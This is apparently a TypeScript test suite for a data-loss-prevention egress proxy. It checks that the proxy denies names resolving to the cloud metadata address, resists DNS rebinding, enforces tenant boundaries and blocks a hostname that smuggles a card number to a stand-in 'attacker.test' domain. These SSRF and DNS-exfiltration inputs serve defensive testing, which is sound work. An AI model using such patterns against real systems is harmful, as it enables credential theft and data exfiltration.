// Issue #11 finding 6: explicit mode resolves a destination's name once, judges
// the name AND every address it resolved to, and connects to exactly the
// address it decided on. `localhost` exercises the real system resolver; an
// injected resolver plays the DNS server that answers with the metadata
// address, or rebinds between two lookups.
import t from 'tap';
import net from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { curl, PROFILE_HEADER, request, startTestProxy, startUpstream, type Upstream } from './proxy-harness';
import type { NameResolver } from '../../proxy/http/name-resolver';

const METADATA = '169.254.169.254';

function profile(mode: 'Protect' | 'Monitor', denies: string[]): string {
  return `${PROFILE_HEADER}spec:
  mode: ${mode}
  detectors:
    enable: [pci.card-number]
    overrides:
      - { id: pci.card-number, action: block }
  egress:
    uninspectable: Allow
    deny:
${denies.map((d) => `      - ${d}`).join('\n')}
`;
}

/** A DNS server in a function: answers from the table, counts every question. */
function fakeDns(answers: Record<string, string[] | (() => string[])>): { resolver: NameResolver; asked: string[] } {
  const asked: string[] = [];
  return {
    asked,
    resolver: async (name) => {
      asked.push(name);
      const a = answers[name];
      if (a === undefined) throw Object.assign(new Error('not found'), { code: 'ENOTFOUND' });
      return typeof a === 'function' ? a() : a;
    },
  };
}

let upstream: Upstream;
t.before(async () => {
  upstream = await startUpstream();
});
t.teardown(() => upstream.close());

t.test('a profile denying 127.0.0.0/8 refuses http://localhost/ (system resolver), by curl and by CONNECT', async (t) => {
  const proxy = await startTestProxy(profile('Protect', ['{ cidr: 127.0.0.0/8 }']));
  t.teardown(() => proxy.stop());
  const before = upstream.requests.length;
  const viaCurl = await curl(['-o', '/dev/null', '-w', '%{http_code}', '-x', `http://127.0.0.1:${proxy.port}`, `http://localhost:${upstream.port}/x`]);
  t.equal(viaCurl.stdout, '403');
  const res = await request(proxy.port, { path: `http://localhost:${upstream.port}/y` });
  t.equal(res.status, 403);
  t.equal(res.json().error, 'denied_destination');
  t.match(res.json().reason, /denylist.*127\.0\.0\.0\/8.*resolved/);
  const tunnel = await connectThrough(proxy.port, `localhost:${upstream.port}`);
  t.match(tunnel, /^HTTP\/1\.1 403/);
  t.equal(upstream.requests.length, before, 'nothing reached the upstream');
  t.equal(await proxy.metric('kubedlp_proxy_requests_total', { decision: 'denied_destination' }), 3);
});

t.test('a name that resolves to the metadata address is denied by the sample-style metadata deny', async (t) => {
  const dns = fakeDns({ 'metadata.attacker.test': ['127.0.0.1', METADATA], 'ok.test': ['127.0.0.1'] });
  const proxy = await startTestProxy(profile('Protect', [`{ cidr: ${METADATA}/32 }`]), { resolver: dns.resolver });
  t.teardown(() => proxy.stop());
  const before = upstream.requests.length;
  const res = await request(proxy.port, { path: `http://metadata.attacker.test:${upstream.port}/latest/meta-data/` });
  t.equal(res.status, 403);
  t.equal(res.json().error, 'denied_destination');
  t.match(proxy.audit().at(-1), { decision: 'denied_destination', action: 'deny' });
  t.match(await connectThrough(proxy.port, `metadata.attacker.test:${upstream.port}`), /^HTTP\/1\.1 403/);
  t.equal(upstream.requests.length, before);

  const ok = await request(proxy.port, { path: `http://ok.test:${upstream.port}/fine` });
  t.equal(ok.status, 200, 'a name resolving only to allowed addresses goes through');
  t.equal(upstream.requests.at(-1)!.headers.host, `ok.test:${upstream.port}`, 'the Host header stays the name');
});

t.test('Monitor: the address deny is recorded, not enforced', async (t) => {
  const dns = fakeDns({ 'metadata.attacker.test': ['127.0.0.1', METADATA] });
  const proxy = await startTestProxy(profile('Monitor', [`{ cidr: ${METADATA}/32 }`]), { resolver: dns.resolver });
  t.teardown(() => proxy.stop());
  const res = await request(proxy.port, { path: `http://metadata.attacker.test:${upstream.port}/m` });
  t.equal(res.status, 200);
  t.match(proxy.audit().at(-1)?.reason, /169\.254\.169\.254.*not enforced in Monitor mode/);
});

t.test('DNS rebinding cannot move the connection: one lookup per request, the connection goes to its answer', async (t) => {
  let answer = 0;
  // First answer: the real upstream on loopback. Any later answer: the metadata address.
  const dns = fakeDns({ 'rebind.test': () => (answer++ === 0 ? ['127.0.0.1'] : [METADATA]) });
  // Answers not reused (--dns-cache-ttl 0): every request sees the resolver's latest answer, the worst case.
  const proxy = await startTestProxy(profile('Protect', [`{ cidr: ${METADATA}/32 }`]), { resolver: dns.resolver, dnsCacheTtlMs: 0 });
  t.teardown(() => proxy.stop());
  const first = await request(proxy.port, { path: `http://rebind.test:${upstream.port}/a` });
  t.equal(first.status, 200, 'connected to the address decided on');
  t.same(dns.asked, ['rebind.test'], 'asked once');
  const second = await request(proxy.port, { path: `http://rebind.test:${upstream.port}/b` });
  t.equal(second.status, 403, 'the rebound answer is judged before use');
  t.same(dns.asked, ['rebind.test', 'rebind.test']);

  answer = 0;
  const tunnel = await connectThrough(proxy.port, `rebind.test:${upstream.port}`, `GET /t HTTP/1.1\r\nHost: rebind.test\r\nConnection: close\r\n\r\n`);
  t.match(tunnel, /^HTTP\/1\.1 200 Connection Established\r\n\r\nHTTP\/1\.1 200/, 'the tunnel reached the pinned address');
});

t.test('an answer is reused for requests and tunnels to the same name (default --dns-cache-ttl)', async (t) => {
  const dns = fakeDns({ 'reuse.test': () => ['127.0.0.1'] });
  const proxy = await startTestProxy(profile('Protect', [`{ cidr: ${METADATA}/32 }`]), { resolver: dns.resolver });
  t.teardown(() => proxy.stop());
  const answers = await Promise.all([1, 2, 3].map((i) => request(proxy.port, { path: `http://reuse.test:${upstream.port}/r${i}` })));
  t.same(
    answers.map((a) => a.status),
    [200, 200, 200],
  );
  t.equal((await request(proxy.port, { path: `http://REUSE.test:${upstream.port}/r4` })).status, 200);
  const tunnel = await connectThrough(proxy.port, `reuse.test:${upstream.port}`, `GET /t HTTP/1.1\r\nHost: reuse.test\r\nConnection: close\r\n\r\n`);
  t.match(tunnel, /^HTTP\/1\.1 200 Connection Established/);
  t.same(dns.asked, ['reuse.test'], 'one question for five exchanges, concurrent ones included');
});

t.test('a name refused by name, or carrying a secret, is never looked up', async (t) => {
  const dns = fakeDns({});
  const proxy = await startTestProxy(profile('Protect', ['{ host: denied.example }']), { resolver: dns.resolver });
  t.teardown(() => proxy.stop());
  t.equal((await request(proxy.port, { path: 'http://denied.example/' })).status, 403);
  t.match(await connectThrough(proxy.port, 'denied.example:443'), /^HTTP\/1\.1 403/);
  const leak = await request(proxy.port, { path: 'http://4111111111111111.attacker.test/' });
  t.equal(leak.status, 403);
  t.equal(leak.json().error, 'blocked');
  t.same(dns.asked, [], 'no DNS question carried the name out');
});

t.test('a name that does not resolve gets 502 with the reason and is counted as an error', async (t) => {
  const dns = fakeDns({});
  const proxy = await startTestProxy(profile('Protect', ['{ host: denied.example }']), { resolver: dns.resolver });
  t.teardown(() => proxy.stop());
  const res = await request(proxy.port, { path: 'http://nowhere.test/' });
  t.equal(res.status, 502);
  t.equal(res.json().reason, 'destination name did not resolve (ENOTFOUND)');
  t.match(await connectThrough(proxy.port, 'nowhere.test:443'), /^HTTP\/1\.1 502/);
  t.equal(await proxy.metric('kubedlp_proxy_requests_total', { decision: 'error' }), 2);
});

t.test('tenancy is judged on every resolved address: an outside name pointing at another tenant is denied', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'kdlp-tenants-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const directoryPath = join(dir, 'tenants.yaml');
  writeFileSync(
    directoryPath,
    `apiVersion: kubedlp.io/v1alpha1
kind: TenantDirectory
namespaces:
  - {name: test-ns, tenant: test-tenant}
  - {name: team-b, tenant: globex}
addresses:
  - {cidr: 127.0.0.2, namespace: team-b, kind: Service, name: api}
`,
  );
  const dns = fakeDns({ 'looks-external.example': ['127.0.0.1', '127.0.0.2'] });
  const proxy = await startTestProxy(
    `${profile('Protect', ['{ host: denied.example }'])}  tenancy:\n    denyCrossTenant: true\n`,
    { resolver: dns.resolver, tenancy: { directoryPath } },
  );
  t.teardown(() => proxy.stop());
  const before = upstream.requests.length;
  const res = await request(proxy.port, { path: `http://looks-external.example:${upstream.port}/` });
  t.equal(res.status, 403);
  t.equal(res.json().error, 'denied_cross_tenant');
  t.match(res.json().reason, /team-b/);
  t.match(await connectThrough(proxy.port, `looks-external.example:${upstream.port}`), /^HTTP\/1\.1 403/);
  t.equal(upstream.requests.length, before);
});

/** CONNECT through the proxy, optionally send bytes once established; resolves with everything received. */
function connectThrough(proxyPort: number, authority: string, payload?: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect(proxyPort, '127.0.0.1');
    let out = '';
    let sent = false;
    const timer = setTimeout(() => socket.destroy(), 3000);
    socket.on('connect', () => socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`));
    socket.on('data', (d) => {
      out += d.toString('latin1');
      if (payload && !sent && out.includes('\r\n\r\n') && out.startsWith('HTTP/1.1 200')) {
        sent = true;
        socket.write(payload);
      }
      if (!payload || (sent && /\r\n\r\nHTTP\/1\.1 \d{3}[^]*\r\n\r\n/.test(out))) {
        if (!payload || out.includes('"ok":true')) socket.destroy();
      }
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(out);
    });
  });
}
